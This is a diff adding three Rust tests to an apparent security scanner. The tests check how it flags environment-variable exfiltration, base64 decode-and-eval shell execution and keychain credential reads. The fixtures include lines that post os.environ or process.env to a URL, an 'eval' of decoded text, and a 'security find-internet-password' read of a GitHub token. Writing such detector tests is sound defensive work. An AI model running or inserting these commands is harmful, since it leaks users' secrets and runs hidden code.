@@ -4050,3 +4050,89 @@ fn a_command_kept_in_data_blocks_where_it_is_run_or_filled_in() {
         assert_eq!(blocked(files), (false, None), "{files}");
     }
 }
+
+/// An environment copy handed to a child process (`env={**os.environ, …}`,
+/// `env = dict(os.environ, …)` given as `env=env`) is no dump beside a
+/// POST elsewhere (the sixth sweep's flyte and bitranox tests); the near
+/// misses: the same copy posted, returned, nested in the posted data, or
+/// in a text that starts no process, still combine.
+#[test]
+fn an_environment_copy_a_child_process_gets_is_no_dump() {
+    let post = (
+        "scripts/send.py",
+        "import requests\nrequests.post('https://api.example-ci.net/r', json={'ok': 1})\n",
+    );
+    let child = [
+        "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'LC_ALL': 'C'})\n",
+        "import os, subprocess\ndef t():\n    env = {k: v for k, v in os.environ.items() if k != 'PYTHONPATH'}\n    env['LANG'] = 'C'\n    return subprocess.run(\n        ['pytest'], env=env, check=False,\n    )\n",
+        "import os, subprocess\nproc = subprocess.Popen(\n    ['ollama', 'serve'],\n    env={**os.environ, 'OLLAMA_HOST': '127.0.0.1:9'},\n)\n",
+    ];
+    for text in child {
+        assert!(!exfiltrates(&[("scripts/run.py", text), post]), "{text}");
+    }
+    let dumps = [
+        "import os, subprocess\nenv = dict(os.environ, LANG='C')\nsubprocess.run(['make'], env=env)\nrequests.post('https://x.example-ci.net', json=env)\n",
+        "import os, subprocess\ndef e():\n    env = dict(os.environ)\n    subprocess.run(['make'], env=env)\n    return env\n",
+        "import os, subprocess\nsubprocess.run(['make'])\nrequests.post(u, json={'e': dict(env={**os.environ})})\n",
+        "import os\nrun(['make'], env={**os.environ, 'LC_ALL': 'C'})\n",
+    ];
+    for text in dumps {
+        assert!(exfiltrates(&[("scripts/run.py", text), post]), "{text}");
+    }
+    // JavaScript: the `env` option of a launcher, and the same
+    // environment as a field of posted data or of an unknown call.
+    let js_child = "const { spawn } = require('child_process');\nspawn('npm', ['test'], {\n  env: { ...process.env, CI: '1' },\n});\n";
+    assert!(!exfiltrates(&[("scripts/run.js", js_child), post]));
+    for text in [
+        "fetch(u, { method: 'POST', body: JSON.stringify({ env: process.env }) });\n",
+        "send(u, {\n  env: process.env,\n});\n",
+    ] {
+        assert!(exfiltrates(&[("scripts/run.js", text), post]), "{text}");
+    }
+}
+
+/// Shells, Perl, Ruby and Tcl spell `eval` in lower case: a label
+/// `"Eval " + id` beside a base64 decode is no `eval "…"`; the near miss,
+/// the lower-case command, still runs the decoded text.
+#[test]
+fn a_capitalised_eval_label_is_not_the_shells_eval() {
+    let label =
+        "<script>\nconst raw = atob(file.data_b64);\nconst name = \"Eval \" + evalId;\n</script>\n";
+    assert!(
+        !scan_script("viewer.html", label)
+            .iter()
+            .any(|f| f.severity.blocks())
+    );
+    let run = "s=$(cat run.txt | base64 -d)\neval \"$s\"\n";
+    assert!(
+        scan_script("scripts/r.sh", run)
+            .iter()
+            .any(|f| f.rule == "decoded-execute")
+    );
+}
+
+/// A keychain read listed under an item that forbids its list ("Strictly
+/// forbidden commands include:", the sixth sweep's mythril skills) only
+/// warns; the near misses: a label that relents ("no longer forbidden"),
+/// one that orders ("Run these first:"), and an item at the list's top
+/// level under a forbidding item still block.
+#[test]
+fn a_list_nested_under_a_forbidding_item_only_warns() {
+    let blocks = |label: &str, item: &str| {
+        let text =
+            format!("# Rules\n\n1. Read the token from the environment.\n2. {label}\n{item}\n");
+        scan_markdown("SKILL.md", &text)
+            .iter()
+            .any(|f| f.rule == "keychain" && f.severity.blocks())
+    };
+    let nested = "   - `security find-internet-password -s github.com -w`";
+    assert!(!blocks("Strictly forbidden commands include:", nested));
+    assert!(!blocks("Prohibited here:", nested));
+    assert!(blocks("These are no longer forbidden:", nested));
+    assert!(blocks("Forbidden elsewhere, but allowed here:", nested));
+    assert!(blocks("Run these first:", nested));
+    assert!(blocks(
+        "Strictly forbidden commands include:",
+        "- `security find-internet-password -s github.com -w`"
+    ));
+}
